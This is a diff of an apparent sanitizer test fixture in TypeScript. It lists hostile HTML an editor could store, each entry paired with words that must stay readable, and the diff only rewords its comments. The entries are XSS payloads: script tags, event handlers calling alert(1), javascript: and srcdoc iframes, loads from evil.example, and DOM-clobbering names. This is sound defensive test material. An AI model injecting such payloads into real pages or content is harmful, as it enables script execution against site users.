@@ -1,4 +1,4 @@
-/** What an editor who means harm could store, each with words that have to stay readable. Written for this project. */
+/** Content of a hostile editor, each part with a text that has to stay readable. Written for this project. */
 export const hostileParts: readonly (readonly [words: string, html: string])[] = [
   // Scripts and handlers
   ['after script', 'after script<script>alert(1)</script>'],
@@ -78,7 +78,7 @@ export const hostileParts: readonly (readonly [words: string, html: string])[] =
   ['template', '<template><script>alert(1)</script></template>template'],
   ['shadow', '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template>shadow</div>'],
   ['custom element', '<x-evil onclick="alert(1)">custom element</x-evil>'],
-  // What acts, fetches or asks by itself
+  // Elements that act, fetch or ask by themselves
   ['frame', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>frame'],
   ['foreign frame', '<iframe src="https://evil.example/embed/abcdef12345"></iframe>foreign frame'],
   ['script frame', '<iframe src="javascript:alert(1)"></iframe>script frame'],
@@ -125,7 +125,7 @@ export const hostileParts: readonly (readonly [words: string, html: string])[] =
     'old background',
     '<table background="https://evil.example/t"><tbody><tr><td background="https://evil.example/t">old background</td></tr></tbody></table>',
   ],
-  // Names that hide what scripts look for
+  // Names that shadow those that scripts use
   ['heading', '<h2 id="root" name="getElementById" onclick="alert(1)">heading</h2>'],
   [
     'hidden names',
@@ -133,7 +133,7 @@ export const hostileParts: readonly (readonly [words: string, html: string])[] =
   ],
   ['prototype', '<p id="__proto__" class="dialog" name="attributes">prototype</p>'],
   ['location', '<h2><img src=x onerror=alert(1) alt="">location</h2>'],
-  // What looks like ours
+  // Attributes that look like ours
   ['zoom', '<button data-zoom><img src="x" onerror="alert(1)" alt="">zoom</button>'],
   ['anchor', '<a data-anchor="x" href="#x" onfocus="alert(1)" autofocus tabindex="1">anchor</a>'],
   ['player', '<button data-play="x&quot; onload=&quot;alert(1)">player</button>'],
@@ -141,11 +141,11 @@ export const hostileParts: readonly (readonly [words: string, html: string])[] =
     'mention',
     '<span data-type="mention" data-id="1);alert(1" data-label="A" onclick="alert(1)">mention</span>',
   ],
-  // Markup that never ends swallows nothing that follows it
+  // Markup without an end must not swallow what follows it
   ['unclosed attribute', 'unclosed attribute<img src="https://evil.example/?'],
 ];
 
-/** The text of an article made of all of them; each is in an element of its own. */
+/** The text of an article made of all parts; each is in an element of its own. */
 export const hostileContent = `<h2>First</h2>${hostileParts
   .map(([, html]) => `<div>${html}</div>`)
   .join('')}`;
